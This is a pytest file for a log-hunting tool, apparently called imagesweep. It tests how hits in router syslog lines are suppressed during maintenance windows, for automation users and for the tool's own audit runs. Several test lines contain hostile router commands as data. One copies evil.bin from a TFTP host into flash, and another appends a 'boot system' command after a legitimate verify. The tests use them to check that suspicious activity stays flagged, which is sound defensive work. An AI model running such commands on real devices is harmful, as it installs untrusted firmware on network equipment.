"""Suppression: maintenance windows, automation users, imagesweep's own audits. Suppressed
hits stay, with a reason."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from imagesweep.errors import ConfigError
from imagesweep.hunt import tuning
from imagesweep.hunt.extract import Extractor
from imagesweep.hunt.hits import Hit
from imagesweep.hunt.indicators import Indicators
from imagesweep.hunt.match import Matcher
from imagesweep.hunt.readers import Event, parse_line
from imagesweep.hunt.timestamps import TimeContext

IMAGE = "c2900-universalk9-mz.SPA.157-3.M8.bin"
VERIFY = f"%HA_EM-6-LOG: CLI_LOG: User:imagesweep command:verify /md5 flash:{IMAGE}"


def _hit(line: str, ind: Indicators, matcher: Matcher) -> Hit:
    event = parse_line(line, TimeContext(year=2024))
    assert isinstance(event, Event), event
    classes = matcher.classify(event.message)
    assert any(classes), line
    return Hit(event=event, classes=classes, extracted=Extractor(ind)(event.message))


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    run = tmp_path / "run"
    (run / "raw" / "rtr-br-01").mkdir(parents=True)
    (run / "raw" / "rtr-br-02").mkdir(parents=True)
    # File names as a collector sanitises commands; the terms are what counts.
    (run / "raw" / "rtr-br-01" / f"verify__md5_flash_{IMAGE}.txt").write_text("...", "utf-8")
    (run / "raw" / "rtr-br-01" / "dir.txt").write_text("...", "utf-8")
    (run / "raw" / "rtr-br-02" / "show%20version.txt").write_text("...", "utf-8")
    sweep = {
        "tool": "imagesweep",
        "schema": 1,
        "started_at": "2024-03-03T14:00:00Z",
        "finished_at": "2024-03-03T14:20:00Z",
        "options": {"username": "imagesweep"},
        "devices": [
            {"host": "rtr-br-01", "address": "10.0.0.1", "hostname": "rtr-br-01.example.net"},
            {"host": "rtr-br-02", "address": "10.0.0.2",
             "commands": [{"step": "digest", "command": "verify /md5 flash:other.bin"}]},
        ],
    }  # fmt: skip
    (run / "sweep.json").write_text(json.dumps(sweep), encoding="utf-8")
    return run


def test_audit_run_is_read(run_dir: Path) -> None:
    run = tuning.load_audit_run(run_dir)
    assert run.user == "imagesweep"
    assert run.start == datetime(2024, 3, 3, 14, 0, tzinfo=UTC)
    assert run.end == datetime(2024, 3, 3, 14, 20, tzinfo=UTC)
    assert f"verify__md5_flash_{IMAGE}" in run.commands
    assert "verify /md5 flash:other.bin" in run.commands
    assert "show version" in run.commands
    assert any("rtr-br-01.example.net" in keys and "10.0.0.1" in keys for keys in run.devices)


@pytest.mark.parametrize(
    ("line", "suppressed"),
    [
        # the sweep's own digest command, from an audited device, inside the sweep
        (f"Mar  3 14:05:00 rtr-br-01.example.net 12: {VERIFY}", True),
        (f"Mar  3 14:05:00 10.0.0.1 12: {VERIFY}", True),
        # an hour after the sweep ended
        (f"Mar  3 15:30:00 rtr-br-01 12: {VERIFY}", False),
        # a device the sweep did not audit
        (f"Mar  3 14:05:00 rtr-br-09 12: {VERIFY}", False),
        # another user ran the same command
        (f"Mar  3 14:05:00 rtr-br-01 12: {VERIFY.replace('User:imagesweep', 'User:eve')}", False),
        # the sweep ran "dir", which appears in this message, but does not explain the transfer
        (
            "Mar  3 14:05:00 rtr-br-01 12: %PARSER-5-CFGLOG_LOGGEDCMD: User:imagesweep "
            "logged command:copy tftp://10.6.6.6/dir/evil.bin flash:evil.bin",
            False,
        ),
        # the sweep's command plus something it never ran
        (f"Mar  3 14:05:00 rtr-br-01 12: {VERIFY} ; boot system flash:evil.bin", False),
    ],
)
def test_audit_activity(
    run_dir: Path, ind: Indicators, matcher: Matcher, line: str, suppressed: bool
) -> None:
    settings = tuning.Tuning(audit_runs=(tuning.load_audit_run(run_dir),))
    (hit,) = tuning.apply([_hit(line, ind, matcher)], settings, matcher)
    assert hit.is_suppressed is suppressed
    if suppressed:
        assert hit.suppressed[0].startswith("imagesweep audit")
        assert "verify" in hit.suppressed[0]


def test_audit_user_alone_sets_read_only_commands_aside(ind: Indicators, matcher: Matcher) -> None:
    settings = tuning.Tuning(audit_user="imagesweep")
    verify = _hit(f"Mar  3 14:05:00 r1 12: {VERIFY}", ind, matcher)
    copy = _hit(
        "Mar  3 14:05:00 r1 12: %PARSER-5-CFGLOG_LOGGEDCMD: User:imagesweep logged "
        "command:copy tftp://10.6.6.6/x.bin flash:x.bin",
        ind,
        matcher,
    )
    a, b = tuning.apply([verify, copy], settings, matcher)
    assert a.suppressed == ("imagesweep audit user imagesweep (read-only command)",)
    assert not b.is_suppressed


def _maintenance(tmp_path: Path, text: str) -> tuning.Tuning:
    path = tmp_path / "maint.yaml"
    path.write_text(text, encoding="utf-8")
    return tuning.load_maintenance(path)


MAINT = """
groups:
  core: ["rtr-core-*", "10.9.0.0/16"]
  branch: ["rtr-br-*"]
windows:
  - {group: core, start: "2024-03-03T22:00:00Z", end: "2024-03-04T02:00:00Z", reason: CHG0012345}
  - {group: branch, weekly: [sun], from: "23:00", to: "01:00", tz: Europe/Berlin}
  - {devices: [sw-lab-1], start: 2024-03-01T00:00:00Z, end: 2024-03-02T00:00:00Z}
automation_users: [SVC-Ansible]
"""


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("Mar  3 23:00:00 rtr-core-1 1: %X-5-Y: rommon", "maintenance window CHG0012345"),
        ("Mar  3 23:00:00 10.9.1.1 1: %X-5-Y: rommon", "maintenance window CHG0012345"),
        ("Mar  4 02:00:01 rtr-core-1 1: %X-5-Y: rommon", ""),
        # 2024-03-03 is a Sunday; 21:30 UTC is 22:30 in Berlin, before Sun 23:00-01:00
        ("Mar  3 21:30:00 rtr-br-5 1: %X-5-Y: rommon", ""),
        # 22:30 UTC is 23:30 in Berlin, inside the window
        ("Mar  3 22:30:00 rtr-br-5 1: %X-5-Y: rommon", "maintenance window (group branch"),
        # 23:30 UTC is 00:30 Monday in Berlin: still the window that began on Sunday
        ("Mar  3 23:30:00 rtr-br-5 1: %X-5-Y: rommon", "maintenance window (group branch"),
        ("Mar  4 00:30:00 rtr-br-5 1: %X-5-Y: rommon", ""),
        ("Mar  1 12:00:00 sw-lab-1 1: %X-5-Y: rommon", "maintenance window (group (inline)"),
        (
            "Mar  1 12:00:00 r9 1: %PARSER-5-CFGLOG_LOGGEDCMD: User:svc-ansible  logged "
            "command:boot system flash:x.bin",
            "automation user svc-ansible",
        ),
    ],
)
def test_maintenance_and_automation(
    tmp_path: Path, ind: Indicators, matcher: Matcher, line: str, reason: str
) -> None:
    settings = _maintenance(tmp_path, MAINT)
    (hit,) = tuning.apply([_hit(line, ind, matcher)], settings, matcher)
    if reason:
        assert hit.suppressed and hit.suppressed[0].startswith(reason), hit.suppressed
    else:
        assert not hit.is_suppressed, hit.suppressed


def test_suppressed_hits_are_kept_in_order(
    tmp_path: Path, ind: Indicators, matcher: Matcher
) -> None:
    lines = [
        "Mar  3 23:00:00 rtr-core-1 1: %X-5-Y: rommon",
        "Mar  3 23:00:00 rtr-x 1: %X-5-Y: rommon",
        "Mar  3 23:00:00 rtr-core-2 1: %X-5-Y: rommon",
    ]
    hits = [_hit(line, ind, matcher) for line in lines]
    out = tuning.apply(hits, _maintenance(tmp_path, MAINT), matcher)
    assert [h.event for h in out] == [h.event for h in hits]
    assert [h.is_suppressed for h in out] == [True, False, True]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "windows: [{group: nope, start: 2024-01-01T00:00:00Z, end: 2024-01-02T00:00:00Z}]",
            "unknown group",
        ),
        ("windows: [{group: '*', weekly: [sun], from: 1:00, to: '02:00'}]", "quoted"),
        ("windows: [{group: '*', weekly: [someday], from: '01:00', to: '02:00'}]", "weekday"),
        (
            "windows: [{group: '*', start: 2024-01-02T00:00:00Z, end: 2024-01-01T00:00:00Z}]",
            "before start",
        ),
        ("windows: [{group: '*'}]", "weekly"),
        ("[1, 2]", "mapping"),
        ("groups: {g: 5}", "group"),
    ],
)
def test_bad_maintenance_files(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        _maintenance(tmp_path, text)


def test_missing_run_directory(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="does not exist"):
        tuning.load_audit_run(tmp_path / "missing")
